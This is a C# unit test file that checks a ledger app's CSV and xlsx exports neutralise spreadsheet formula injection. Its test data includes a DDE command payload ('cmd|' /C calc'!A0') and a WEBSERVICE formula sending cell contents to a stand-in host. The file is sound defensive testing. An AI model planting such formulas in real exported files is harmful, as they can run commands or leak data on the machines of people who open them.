using System.Text;
using DocumentFormat.OpenXml.Packaging;
using DocumentFormat.OpenXml.Spreadsheet;
using DocumentFormat.OpenXml.Validation;

namespace BranchLedger.Reports.Tests;

/// <summary>
/// CSV injection: text a spreadsheet would evaluate (= + - @, tab, CR, their full-width forms, after
/// leading white space too) is exported as text, in CSV by an apostrophe, in xlsx as inline strings.
/// </summary>
public sealed class CsvInjectionTests
{
    /// <summary>Every formula start a spreadsheet honours.</summary>
    public static readonly string[] Starts = ["=", "+", "-", "@", "\t", "\r", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"];

    /// <summary>White space that may stand before it.</summary>
    public static readonly string[] Leads = ["", " ", "   ", "\u3000", "\u00A0", "\n"];

    public static readonly string[] Bodies =
    [
        "HYPERLINK(\"http://x\",\"y\")", "cmd|' /C calc'!A0", "1+1", "SUM(A1:A9)", "3.5", "2022-03-01", "WEBSERVICE(\"http://x/?\"&A1)", "",
    ];

    /// <summary>
    /// The class: every start and body, combined, and behind every lead (a tab or CR behind white space
    /// is more white space, so it is dangerous only first).
    /// </summary>
    public static IEnumerable<string> Dangerous() =>
        from lead in Leads from start in Starts where lead.Length == 0 || !char.IsWhiteSpace(start[0]) from body in Bodies select lead + start + body;

    public static TheoryData<string> Safe() =>
    [
        "学习党章", "a-b", "2022-03-01", "rec-1", "'已有撇号", "类型：党课；主题：=1+1", " 前导空格", "", "张三@单位", "1+1",
    ];

    [Fact]
    public void Every_dangerous_text_cell_gets_an_apostrophe_and_keeps_its_text()
    {
        foreach (var text in Dangerous())
        {
            Assert.True(Unquote(CsvWriter.Cell(text)) == "'" + text, $"{Show(text)} → {Show(CsvWriter.Cell(text))}");
        }
    }

    [Theory]
    [MemberData(nameof(Safe))]
    public void Other_text_is_left_as_it_is(string text) => Assert.Equal(text, Unquote(CsvWriter.Cell(text)));

    [Fact]
    public void Numbers_the_platform_computed_stay_numbers_but_the_same_digits_as_text_do_not()
    {
        Assert.Equal("-3.5", CsvWriter.Cell(-3.5));
        Assert.Equal("-7", CsvWriter.Cell(-7));
        Assert.Equal("-12", CsvWriter.Cell(-12L));
        Assert.Equal("-0.25", CsvWriter.Cell(-0.25m));
        Assert.Equal("-1.5", CsvWriter.Cell(-1.5f));
        Assert.Equal("'-3.5", CsvWriter.Cell("-3.5"));
        Assert.Equal("'-Infinity", CsvWriter.Cell(double.NegativeInfinity));
    }

    [Fact]
    public void No_cell_of_a_written_ledger_opens_as_a_formula_headers_included()
    {
        var inputs = Dangerous().ToList();
        var rows = inputs.Select((text, i) => new LedgerRow("meeting", text, $"rec-{i}", new DateOnly(2022, 3, 1), "Active", text,
            DateTimeOffset.UnixEpoch, text, [new("topic", text), new("attendees", -i)])).ToList();

        foreach (var table in new[] { LedgerTables.Combined(rows, LedgerLabels.Zh), LedgerTables.BySheet(rows, LedgerLabels.Zh).Single() })
        {
            var cells = CsvReader.Parse(Write(table));
            Assert.Equal(inputs.Count + 1, cells.Count);
            Assert.All(cells.SelectMany(r => r), AssertInert);
            // The text survives: node, notes and recorder carry each input after the apostrophe.
            Assert.Equal(inputs.Select(t => "'" + t), cells.Skip(1).Select(r => r[0]));
        }

        var headed = CsvReader.Parse(Write(new ExportTable("对比", ["指标", "=HYPERLINK(\"http://x\",\"y\") 得分"], [["meetings", 3.5]])));
        Assert.Equal(["指标", "'=HYPERLINK(\"http://x\",\"y\") 得分"], headed[0]);
        Assert.Equal(["meetings", "3.5"], headed[1]);
    }

    [Fact]
    public void The_xlsx_export_stores_the_same_text_as_inline_strings_never_as_formulas()
    {
        var inputs = Dangerous().ToList();
        using var stream = new MemoryStream();
        XlsxWriter.Write([new ExportTable("台账", ["内容", "数值"], inputs.Select((t, i) => (IReadOnlyList<object?>)[t, -i - 0.5]))], stream);

        stream.Position = 0;
        using var xlsx = SpreadsheetDocument.Open(stream, false);
        Assert.Empty(new OpenXmlValidator().Validate(xlsx));
        var sheet = xlsx.WorkbookPart!.WorksheetParts.Single().Worksheet!;
        Assert.Empty(sheet.Descendants<CellFormula>());
        var rows = sheet.Descendants<Row>().Skip(1).ToList();
        Assert.Equal(inputs.Count, rows.Count);
        for (var i = 0; i < inputs.Count; i++)
        {
            var cells = rows[i].Elements<Cell>().ToList();
            Assert.Equal(CellValues.InlineString, cells[0].DataType!.Value);
            // Verbatim, no apostrophe needed (XML itself reads a CR as a line feed).
            Assert.Equal(inputs[i].Replace('\r', '\n'), cells[0].InlineString!.Text!.Text);
            Assert.Equal(CellValues.Number, cells[1].DataType!.Value);
        }
    }

    /// <summary>A cell is inert when neither its first character nor its first after white space starts a formula.</summary>
    internal static void AssertInert(string cell)
    {
        var trimmed = cell.TrimStart();
        var dangerous = (cell.Length > 0 && Starts.Contains(cell[..1])) || (trimmed.Length > 0 && Starts.Contains(trimmed[..1]));
        Assert.False(dangerous && !IsNumber(cell), $"live cell {Show(cell)}");
    }

    private static bool IsNumber(string cell) =>
        double.TryParse(cell, System.Globalization.NumberStyles.Float, System.Globalization.CultureInfo.InvariantCulture, out _) && cell.Trim() == cell;

    private static string Write(ExportTable table)
    {
        using var stream = new MemoryStream();
        CsvWriter.Write(table, stream);
        return Encoding.UTF8.GetString(stream.ToArray()[3..]);
    }

    private static string Unquote(string field) =>
        field.StartsWith('"') ? field[1..^1].Replace("\"\"", "\"", StringComparison.Ordinal) : field;

    private static string Show(string text) => System.Text.Json.JsonSerializer.Serialize(text);
}
